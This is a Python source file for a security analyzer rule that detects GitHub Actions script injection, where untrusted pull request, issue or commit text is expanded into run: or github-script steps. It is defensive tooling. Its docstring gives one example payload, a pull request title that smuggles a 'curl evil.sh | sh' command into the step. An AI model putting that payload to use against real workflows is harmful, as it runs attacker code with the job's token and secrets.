"""actions-template-injection: attacker-controlled event text expanded inside a script."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

from analyzers.base import Analyzer, Family, Finding, RuleMeta, Severity
from analyzers.config.yaml_doc import YNode
from analyzers.drift.common import EXPRESSION, action_documents, is_closed, steps
from app.context.model import ChangeContext

UNTRUSTED = re.compile(
    r"github\.event\.(?:"
    r"(?:issue|pull_request|discussion|release|milestone)\.(?:title|body|name)"
    r"|(?:comment|review|review_comment|discussion_comment)\.body"
    r"|pull_request\.head\.(?:ref|label|repo\.default_branch|repo\.description)"
    r"|(?:commits\[[^\]]{0,100}\]|commits\.\*|head_commit)\.(?:message|author\.(?:name|email)"
    r"|committer\.(?:name|email))"
    r"|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:name|email)))"
    r"|pages\[[^\]]{0,100}\]\.page_name|pages\.\*\.page_name"
    r"|check_suite\.head_branch|check_run\.check_suite\.head_branch"
    r")\b|github\.head_ref\b"
)
_INDEX = re.compile(r"""\[\s*['"]+([\w-]+)['"]+\s*\]""")
_SCRIPT_ACTIONS = frozenset({"actions/github-script"})


class ActionsTemplateInjection(Analyzer):
    """Attacker-controlled event text is expanded with `${{ }}` inside a `run:` or `script:`.

    ## What it flags

    `${{ … }}` expressions inside a step's `run:` (and the `script:` input of
    `actions/github-script`), in workflows and composite actions (`action.yml`), that read text
    anyone can choose: issue, pull request, discussion and
    comment titles and bodies, `github.head_ref` and the head branch's label, commit messages and
    author names, `workflow_run` branch names and titles.

    ## Why it is risky

    Expressions are substituted into the script text before the shell (or JavaScript) runs it. A pull
    request titled `a"; curl evil.sh | sh; echo "` becomes code in the step, with the job's token and
    secrets.

    ## Example

    ```diff
    -      - run: echo "$TITLE"
    +      - run: echo "${{ github.event.pull_request.title }}"
    ```

    ## How to fix

    Pass the value through an environment variable and quote it in the script:
    `env: { TITLE: "${{ github.event.pull_request.title }}" }` then `run: echo "$TITLE"`. Values in
    `env:` and `with:` are data, not code.

    ## Tuning

    `rules.actions-template-injection.paths` limits the workflows checked. The rule never reports
    expressions in `env:`, `with:` (other than `script:`) or `if:`.

    ## References

    - CWE-94: Improper Control of Generation of Code ('Code Injection')
    - GitHub Security Lab: "Keeping your GitHub Actions and workflows secure Part 2: Untrusted input"
    - GitHub Docs: "Security hardening for GitHub Actions" (script injections)
    """

    meta = RuleMeta(
        id="actions-template-injection",
        family=Family.DRIFT,
        summary="Attacker-controlled event text is expanded inside a workflow script",
        severity=Severity.HIGH,
        cwe=(94,),
    )

    def analyze(self, ctx: ChangeContext) -> Iterable[Finding]:
        for file, workflow in action_documents(ctx):
            for step in steps(workflow):
                for node in _scripts(step.node, step.action):
                    for line, context in untrusted_expansions(node):
                        yield self.finding(
                            file,
                            line,
                            f"`${{{{ {context} }}}}` is expanded into the script of job "
                            f"`{step.job_id}`: anyone who can set it can run code here",
                            confidence=0.9,
                            evidence=file.line(line).strip(),
                        )


def _scripts(step: YNode, action: str) -> Iterator[YNode]:
    run = step.get("run")
    if run is not None and run.kind == "scalar":
        yield run
    if action in _SCRIPT_ACTIONS:
        inputs = step.get("with")
        script = inputs.get("script") if inputs is not None else None
        if script is not None and script.kind == "scalar":
            yield script


def _dotted(expression: str) -> str:
    """`github.event['pull_request']["title"]` as `github.event.pull_request.title`."""
    return _INDEX.sub(lambda m: "." + m.group(1), expression)


def untrusted_expansions(node: YNode) -> Iterator[tuple[int, str]]:
    for number, text in node.source_lines():
        for match in EXPRESSION.finditer(text):
            if not is_closed(match):
                continue
            found = UNTRUSTED.search(_dotted(match.group(1)))
            if found is not None:
                yield number, found.group(0)
                break
